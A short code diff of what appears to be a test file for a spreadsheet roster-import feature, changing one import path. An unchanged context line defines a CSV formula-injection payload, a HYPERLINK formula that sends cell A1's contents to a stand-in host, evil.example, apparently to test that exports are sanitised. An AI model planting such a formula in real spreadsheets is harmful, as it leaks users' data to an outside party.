@@ -9,7 +9,7 @@ import { guessMapping } from "~/domain/roster";
 import { getI18n } from "~/i18n/i18n";
 import { action as uploadAction } from "~/routes/employer/postings-upload";
 import { bufferSource } from "~/platform/spreadsheet-reader.server";
-import { errorReportCsv, importRoster, readHead } from "~/services/roster-import.server";
+import { errorReportCsv, importRoster, readHead } from "~/features/imports/index.server";
 import { makeCoordinator, makeEmployer } from "../setup/factories";
 
 const PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")';
